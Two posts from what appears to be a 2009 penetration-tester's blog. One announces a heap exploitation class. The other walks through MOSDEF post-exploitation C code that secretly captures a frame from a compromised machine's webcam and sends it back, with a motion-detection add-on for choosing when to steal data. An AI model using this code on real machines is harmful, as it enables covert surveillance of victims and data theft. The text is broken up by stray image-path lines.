domingo, 26 de abril de 2009

MEMO: Heap training

Dear diary,
I'm finally back but just for a short message. Between writing exploits, developing with Kostya material for the "Windows shellcode writing" class (Check out for more information) and living I didn't have much time left.
This small post is just to announce that i'm gonna be teaching the Heap class May 11-14 in Miami Beach (more info).
I usually try to update the material of the class, in fact, i can recall of a class which i use exactly the same material as the one before.
This time i'm going to add more information about XP/2003 bypassing specially where there is no lookaside on it (Which was the caseof an exploit a week ago) and probably explain (with exercise) the FreeListInUse trick.
For the lucky of you that can make it, Nicolas Pouvesle will be explaining one of the introduced subjects.

Nico (Waisman)

lunes, 13 de abril de 2009

Hacking like in the movies (or how to take a picture with your webcam)

Dear diary,
When you spent an amount of time diving on the heap on an exploit without any significant result, you start feeling the lack of productivity.
To avoid that feeling, i from time to time stop what i'm doing to get myself into a lame pet projects to clear my mine, in this case was tasking a picture with the webcam.
It's actual quite simple, unless you follow the CF_BITMAP path, in which case you will lost a day, until you figure out the solution is CF_DIB.
The key feature of MOSDEF is the possibility that you have to avoid touching disk or executing command, unless it's really needed, this will give a tremendous post-exploitation advantage overhost based IDS. Each time i see people uploading a file and executing it, it chill my spine.
MOSDEF basically compiles a C code into process independent shellcode that gets the resolution of api functions remotely, as you might guess everything gets executed on the exploited process.
The first step to write out MOSDEF C post exploitation command, is to find out what api functions you need, in this case, to get a picture of a webcam. The first google choice was to use DirectShow, which is probably the smartest idea but translated into mosdef could be a little bit time consuming (yes, tomorrow im back to more heap). So my selection was to the capCreateCaptureWindow.
#import "remote", "avicap32.dll|capCreateCaptureWindowA" as "capCreateCaptureWindowA"

This function creates a video window (which you can obviously start hidden) and returns its handle. Based on the handle, you can send different message to either record video or take a picture.In my case, was the second option, so i did the following:

// Create a Window and connect it to the driver
hwnd = capCreateCaptureWindowA("CANVAS", 0x40000000, 0, 0, 640, 480, proghwnd, 0);
SendMessageA(hwnd, 1024+10 ,0,0); // wm_cap_driver_connect
SendMessageA(hwnd, 1024+50 ,1,0); // wm_cap_set_preview
SendMessageA(hwnd, 1024+52 ,30,0); // set_previewrate

// Get aFrame and copy it to the clipboard
SendMessageA(hwnd, 1084,0,0); // get_frame
SendMessageA(hwnd, 1054,0,0); // wm_cap_copy copy to clipboard

You will think this is the hard part, but what it took me more time was to grab the picture out of the clipboard, since i try the to grab it as a CF_BITMAP and didn't work out as expected.
The solution was to grab it as CF_DIB which returns a memory object containg a BITMAPINFO structure and after that the actual raw image.

hbitmap = GetClipboardData( 8 ); // CF_DIB
pbih = GlobalLock( hbitmap );
pBits = pbih + 49;

hor = pbih->biWidth;
vert = pbih->biHeight;
bpp = pbih->biBitCount/8;
size = hor * vert * bpp ;

senddata2self(pBits, size);This simply gets transformed into a small python command called "saycheese"

That after its get executed, you will get a scary face like this one inside your screenshot section

Neat, a picture is worth a thousand words, at least for your boss or your clients.
But if you are one of those owl hackers (*blink*) that wait into the deep of the night for your prey to stop using the machine so you can start downloading the 3gb database, you can rest now.
I add a small script that runs our motiondetection command, that returns the motion's percentage based on two pictures taken through the webcam (the algo is quite simple, just compare pixel by pixel to find out change).
Aside of the percentage, it returns into a neat picture showing the place where motion was found. (NOTE: Any resemblance of any character to any actual person, whether living or dead, is purelycoincidental, specially with that Keanu Reeves movie).

EDIT: Juano@Netifera share his knowledge on the subject. To improve accuracy of the motion detection algo, you can take a couple of pictures and create an array based on the average pixel on each position, that will give you adecent background image to compare with.